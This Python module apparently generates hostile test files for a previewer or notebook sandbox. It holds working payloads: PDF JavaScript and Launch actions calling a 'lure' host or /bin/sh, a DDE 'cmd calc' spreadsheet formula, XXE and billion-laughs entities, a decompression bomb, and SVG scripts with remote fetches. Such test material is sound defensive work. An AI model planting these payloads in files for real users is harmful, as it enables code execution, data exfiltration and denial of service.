"""Files that an attacker leaves for whoever previews them: PDFs, workbooks and drawings, made here byte by byte."""

import base64
import io
import struct
import zipfile

MAGIC = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
RED = "0.85 0.1 0.1 rg 0 0 400 300 re f"
_TELL = "alert(1);fetch('{lure}/ran');document.title='ran'"


def leave(files: dict[str, bytes]) -> str:
    """Python code that leaves the files as a cell's artifacts."""
    coded = {name: base64.b64encode(content).decode() for name, content in files.items()}
    return (
        "import base64, os\nos.makedirs('outputs', exist_ok=True)\n"
        f"for name, content in {coded!r}.items():\n"
        "    open(f'outputs/{name}', 'wb').write(base64.b64decode(content))"
    )


def pdf(objects: list[str], trailer: str = "") -> bytes:
    """A PDF of the objects, the first of which is its catalogue (ISO 32000-1, 7.5)."""
    out, places = bytearray(MAGIC), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    out += (
        f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}trailer\n"
        f"<< /Size {len(objects) + 1} /Root 1 0 R {trailer} >>\nstartxref\n{len(out)}\n%%EOF\n"
    ).encode()
    return bytes(out)


def stream(content: str, entries: str = "") -> str:
    """A stream object."""
    return f"<< /Length {len(content)} {entries} >>\nstream\n{content}\nendstream"


def simple_pdf(content: str = RED, box: str = "0 0 400 300", trailer: str = "") -> bytes:
    """One page."""
    page = f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 4 0 R /Resources << >> >>"
    tree = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return pdf(["<< /Type /Catalog /Pages 2 0 R >>", tree, page, stream(content)], trailer)


def scanned_pdf() -> bytes:
    """A page for each kind of picture that scanners write, each of 16 by 12 pixels, all of them red."""
    jpx = base64.b64decode(
        "/0//UQAvAAAAAAAQAAAADAAAAAAAAAAAAAAAEAAAAAwAAAAAAAAAAAADBwEBBwEBBwEB/1IADAAAAAEAAAQE"
        "AAH/XAAEQED/kAAKAAAAAAAzAAH/k8+0QBQAXK+6m0oQAAAAYSEv/3/PtBgRUFSv/u/PtBgRUFSv/u//2Q=="
    ).decode("latin-1")
    # All black (ITU-T T.6); and in a page and a generic region of JBIG2 (ITU-T T.88, 7.4.8 and 7.4.6).
    fax = bytes.fromhex("26a0bfffffe0020020")
    page = struct.pack(">IBBBIIIIIBH", 0, 48, 0, 1, 19, 16, 12, 0, 0, 0, 0)
    region = struct.pack(">IIIIBB", 16, 12, 0, 0, 0, 1) + fax
    jbig2 = page + struct.pack(">IBBBI", 1, 38, 0, 1, len(region)) + region
    image = "/Type /XObject /Subtype /Image /Width 16 /Height 12"
    mask = f"{image} /ImageMask true /BitsPerComponent 1"
    pictures = [
        stream(jpx, f"{image} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /JPXDecode"),
        stream(jbig2.decode("latin-1"), f"{mask} /Filter /JBIG2Decode"),
        stream(
            fax.decode("latin-1"),
            f"{mask} /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 16 /Rows 12 >>",
        ),
    ]
    content = stream("0.85 0.1 0.1 rg q 400 0 0 300 0 0 cm /I Do Q")
    pages = [
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Contents 3 0 R "
        f"/Resources << /XObject << /I {4 + at} 0 R >> >> >>"
        for at in range(len(pictures))
    ]
    kids = " ".join(f"{4 + len(pictures) + at} 0 R" for at in range(len(pages)))
    tree = f"<< /Type /Pages /Kids [{kids}] /Count {len(pages)} >>"
    return pdf(["<< /Type /Catalog /Pages 2 0 R >>", tree, content, *pictures, *pages])


def unshowable_pdfs() -> str:
    """Code that leaves PDFs which are none, end early, are locked, have a page of a mile, or are too large to fetch."""
    nonsense = "41" * 32
    encrypted = f"/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <{nonsense}> /U <{nonsense}> >> /ID [<01> <01>]"
    files = {
        "no.pdf": b"<html><script>alert(1)</script>",
        "cut.pdf": simple_pdf()[:90],
        "locked.pdf": simple_pdf(trailer=encrypted),
        "huge.pdf": simple_pdf("1 0 0 rg 0 0 9000000 9000000 re f", "0 0 4000000 4000000"),
    }
    return leave(files) + "\nopen('outputs/large.pdf', 'wb').truncate(65 * 2**20)"


def hostile_pdf(lure: str) -> str:
    """Code that leaves a PDF with every way in which one acts by itself or leads away (ISO 32000-1, 12.6)."""
    script = (
        f"app.alert\\(1\\); app.launchURL\\('{lure}/js'\\); this.submitForm\\('{lure}/form'\\); fetch\\('{lure}'\\);"
    )
    run = f"<< /S /JavaScript /JS ({script}) >>"
    uri = f"<< /S /URI /URI ({lure}/uri) >>"
    elsewhere = f"<< /FS /URL /F ({lure}/file) >>"
    form = f"<< /S /SubmitForm /F {elsewhere} /Fields [] >>"
    spot = "/Type /Annot /F 4 /Rect [0 0 400 300]"
    annotations = [
        f"<< {spot} /Subtype /Link /A {uri} /Border [0 0 0] >>",
        f"<< {spot} /Subtype /Link /A << /S /Launch /F (/bin/sh) /Next {uri} >> /Border [0 0 0] >>",
        f"<< {spot} /Subtype /Link /A << /S /GoToR /F {elsewhere} /D [0 /Fit] >> /Border [0 0 0] >>",
        f"<< {spot} /Subtype /Widget /FT /Btn /T (b) /Ff 65536 /A {form} /AA << /E {run} /PV {run} /PO {run} >> >>",
        f"<< {spot} /Subtype /Widget /FT /Tx /T (t) /V (x) /AA << /K {run} /F {run} /C {run} /Fo {run} >> >>",
        f"<< {spot} /Subtype /FileAttachment /FS {elsewhere} >>",
        f"<< {spot} /Subtype /Screen /A << /S /Rendition /OP 0 /JS ({script}) >> >>",
    ]
    code = f"0\\); fetch\\('{lure}/font'\\); //"
    resources = (
        "<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> "
        f"/F2 << /Type /Font /Subtype /Type1 /BaseFont /Times-Roman /FontMatrix [1 2 3 4 5 ({code})] >> >> "
        "/XObject << /I 5 0 R >> >>"
    )
    content = f"{RED} 0 g BT /F1 36 Tf 40 200 Td (Click me) Tj ET q 9 0 0 9 0 0 cm /I Do Q BT /F2 9 Tf 9 9 Td (.) Tj ET"
    xfa = f"<xdp:xdp><template><script>xfa.host.gotoURL('{lure}')</script></template>"
    image = "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8"
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R /OpenAction {run} /AA << /WC {run} /DS {run} >> /URI << /Base ({lure}/) >> "
        f"/Names << /JavaScript << /Names [(all) {run}] >> >> "
        "/AcroForm << /Fields [] /NeedAppearances true /XFA 6 0 R >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Contents 4 0 R /Resources {resources} "
        f"/AA << /O {run} /C {run} >> /Annots [{' '.join(annotations)}] >>",
        stream(content),
        stream("", f"{image} /F {elsewhere}"),
        stream(xfa),
    ]
    return leave({"hostile.pdf": pdf(objects)})


def workbook(sheet: str, **parts: str) -> bytes:
    """An Excel workbook of one sheet. `parts` are more files in it, by their names."""
    found = io.BytesIO()
    with zipfile.ZipFile(found, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", '<workbook><sheets><sheet name="s" r:id="r"/></sheets></workbook>')
        archive.writestr(
            "xl/_rels/workbook.xml.rels", '<Relationships><Relationship Id="r" Target="s.xml"/></Relationships>'
        )
        archive.writestr("xl/s.xml", sheet)
        for name, content in parts.items():
            archive.writestr(name, content)
    return found.getvalue()


def hostile_workbooks(lure: str) -> str:
    """Code that leaves workbooks which call out, expand without end, or unpack to a hundred megabytes."""
    markup = "&lt;img src=x onerror=alert(1)&gt;"
    formulas = [
        f'<c><f>WEBSERVICE("{lure}/f")</f></c>',
        f'<c><f>HYPERLINK("{lure}/h","x")</f></c>',
        "<c><f>cmd|' /C calc'!A0</f></c>",
        f'<c t="inlineStr"><is><t>{markup}</t></is></c>',
    ]
    head = "".join(f'<c t="inlineStr"><is><t>{markup}{at}</t></is></c>' for at in range(len(formulas)))
    hostile = f"<worksheet><sheetData><row>{head}</row><row>{''.join(formulas)}</row></sheetData></worksheet>"
    link = f'<Relationships><Relationship Id="x" TargetMode="External" Target="{lure}/book.xlsx"/></Relationships>'
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    strings = (
        f'<!DOCTYPE s [<!ENTITY l0 "ha"><!ENTITY x SYSTEM "{lure}/dtd">{laughs}]><sst><si><t>&l9;&x;</t></si></sst>'
    )
    files = {
        "hostile.xlsx": workbook(hostile, **{"xl/externalLinks/_rels/externalLink1.xml.rels": link}),
        "entities.xlsx": workbook(
            '<worksheet><sheetData><row><c t="s"><v>0</v></c></row><row><c><v>1</v></c></row></sheetData></worksheet>',
            **{"xl/sharedStrings.xml": strings},
        ),
        "bomb.xlsx": workbook(f"<worksheet><sheetData>{'<row><c><v>1</v></c></row>' * 4_000_000}"),
    }
    return leave(files)


def hostile_svg(lure: str) -> str:
    """Code that leaves a drawing with scripts and requests as a file, and shows it as an output."""
    run = _TELL.format(lure=lure)
    drawing = (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200" onload="{run}"><script>{run}</script>'
        f'<script href="{lure}/x.js"/><image href="{lure}/x.png" width="9" height="9"/><use href="{lure}/x.svg#x"/>'
        f"<style>@import url({lure}/x.css); rect {{ fill: url({lure}/fill.svg#x) }}</style>"
        f'<a href="javascript:{run}"><rect width="400" height="200" fill="#d02020" onclick="{run}"/></a>'
        f'<foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{lure}/frame"/>'
        f'<img xmlns="http://www.w3.org/1999/xhtml" src="{lure}/y.png" onerror="{run}"/></foreignObject>'
        f'<animate attributeName="x" dur="1s" onbegin="{run}"/></svg>'
    )
    shown = f"\nfrom IPython.display import display\ndisplay({{'image/svg+xml': {drawing!r}}}, raw=True)"
    return leave({"hostile.svg": drawing.encode()}) + shown
